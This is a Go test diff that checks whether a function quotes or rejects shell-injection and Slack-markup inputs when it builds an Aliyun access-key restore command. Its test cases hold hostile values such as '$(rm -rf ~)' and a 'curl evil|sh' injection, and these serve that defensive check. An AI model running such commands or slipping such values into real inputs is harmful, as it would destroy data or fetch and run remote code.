@@ -301,3 +301,57 @@ func BenchmarkRenderSlack150(b *testing.B) {
 		}
 	}
 }
+
+func TestRestoreCommand(t *testing.T) {
+	tests := []struct {
+		name, userID, accessKeyID string
+		want                      string
+		wantOK                    bool
+	}{
+		{"ordinary", "20732900249392aa", "LTAI5tAliceExpiring0002",
+			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 20732900249392aa --UserAccessKeyId LTAI5tAliceExpiring0002", true},
+		{"substitution quoted", "$(rm -rf ~)", "LTAI5t",
+			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId '$(rm -rf ~)' --UserAccessKeyId LTAI5t", true},
+		{"markup quoted", "123", "<!channel>*x*",
+			"aliyun ims RestoreAccessKeyFromRecycleBin --UserId 123 --UserAccessKeyId '<!channel>*x*'", true},
+		{"single quote", "123", "'; curl evil|sh #", "", false},
+		{"backtick", "123", "LTAI`id`", "", false},
+		{"line break", "123\n", "LTAI5t", "", false},
+		{"non-ASCII", "123", "LTAI\u202e5t", "", false},
+		{"empty", "", "LTAI5t", "", false},
+	}
+	for _, tt := range tests {
+		got, ok := RestoreCommand(tt.userID, tt.accessKeyID)
+		if got != tt.want || ok != tt.wantOK {
+			t.Errorf("%s: RestoreCommand(%q, %q) = %q, %v; want %q, %v", tt.name, tt.userID, tt.accessKeyID, got, ok, tt.want, tt.wantOK)
+		}
+	}
+}
+
+// FuzzRestoreCommand: a command is given exactly when the IDs allow one, and a POSIX shell splits it
+// into exactly the intended words; in a Slack code span it shows exactly that command.
+func FuzzRestoreCommand(f *testing.F) {
+	for i, s := range hostileSeeds {
+		f.Add(s, hostileSeeds[(i+7)%len(hostileSeeds)])
+	}
+	f.Fuzz(func(t *testing.T, userID, accessKeyID string) {
+		cmd, ok := RestoreCommand(userID, accessKeyID)
+		want, wantOK := restoreArgv(alert.Alert{UserID: userID, AccessKeyID: accessKeyID})
+		if ok != wantOK {
+			t.Fatalf("RestoreCommand(%q, %q) ok = %v, want %v", userID, accessKeyID, ok, wantOK)
+		}
+		if !ok {
+			if cmd != "" {
+				t.Fatalf("RestoreCommand(%q, %q) = %q with ok false", userID, accessKeyID, cmd)
+			}
+			return
+		}
+		got, err := shellWords(cmd)
+		if err != nil || !cmp.Equal(got, want) {
+			t.Fatalf("RestoreCommand(%q, %q) = %q, which splits into %q, %v; want %q", userID, accessKeyID, cmd, got, err, want)
+		}
+		if span := slackCode(cmd); span != "`"+slackEntities.Replace(cmd)+"`" {
+			t.Fatalf("slackCode(%q) = %q, want the command in a code span", cmd, span)
+		}
+	})
+}
